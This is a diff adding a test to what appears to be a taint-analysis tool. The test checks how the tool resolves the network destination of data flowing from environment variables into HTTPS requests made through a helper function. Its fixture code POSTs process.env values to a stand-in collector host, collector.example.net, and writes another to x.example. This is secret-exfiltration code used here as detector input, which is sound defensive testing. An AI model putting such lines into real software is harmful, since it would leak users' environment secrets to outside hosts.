@@ -59,3 +59,22 @@ test("destinations: URI-encoding a value with unknown parts keeps the parts unkn
   // The leading unknown part is followed by a path; B is configuration among the data, so it is taken as the base.
   for (const h of hits) assert.equal(h.destination?.hostConfigured, true, JSON.stringify(h.destination?.constants));
 });
+
+test("destinations: Origin reads the destination from the call the receiver came from, through a helper", () => {
+  const model = {
+    sources: [{ package: "global", path: "Member[process].Member[env].AnyMember", kind: "env" }],
+    sinks: [{ package: "https", path: "Member[request].ReturnValue.Member[write,end].Argument[0]", kind: "net", destination: "Origin.Argument[0]" }],
+  };
+  const code = [
+    `import https from "https";`,
+    `const base = "https://collector.example.net/in";`,
+    `function open(path) { return https.request(base + path, { method: "POST" }); }`,
+    `const req = open("/k");`,
+    `req.end(process.env.A);`,
+    `const other = https.request({ hostname: "x.example" });`,
+    `other.write(process.env.B);`,
+  ].join("\n");
+  const out = runTaint({ "main.js": code }, {}, [model]).hits.map((h) => `${h.location.line}: ${h.destination?.unresolved ? "unresolved" : h.destination?.constants.join(" | ")}`);
+  // The helper's `base + path`: the known prefix (a parameter's constant is not substituted into the string).
+  assert.deepEqual(out.sort(), ["5: https://collector.example.net/in", "7: unresolved"]);
+});
